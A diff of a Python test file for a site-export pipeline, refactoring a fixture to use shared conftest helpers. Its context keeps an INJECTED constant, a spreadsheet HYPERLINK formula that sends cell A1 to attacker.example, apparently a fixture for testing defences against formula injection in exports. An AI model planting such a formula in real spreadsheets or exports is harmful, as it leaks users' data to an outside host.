@@ -9,9 +9,7 @@ import polars as pl
 import pytest
 
 from interlink_pipeline.core import exports
-from interlink_pipeline.core.inbox import register_crawl
-from interlink_pipeline.definitions import build_defs
-from interlink_pipeline_tests.conftest import LIGHT
+from interlink_pipeline_tests.conftest import LIGHT, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
 TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"
@@ -35,12 +33,8 @@ def planned_site(warehouse_path, inbox_root, instance, crawls, encoder, tmp_path
     )
     crawl = tmp_path / "internal_all.csv"
     export.write_csv(crawl)
-    register_crawl(inbox_root, LIGHT, crawl, crawls / "lightchiropractic/all_inlinks.csv")
-    defs = build_defs(str(warehouse_path), str(inbox_root))
-    instance.add_dynamic_partitions("sites", [LIGHT])
-    result = defs.resolve_job_def("site_pipeline").execute_in_process(
-        partition_key=LIGHT, instance=instance, raise_on_error=False
-    )
+    register_lightchiropractic(inbox_root, crawls, crawl)
+    result = run_site(warehouse_path, inbox_root, instance, LIGHT)
     assert result.success
     return warehouse_path.parent / "exports" / LIGHT
 
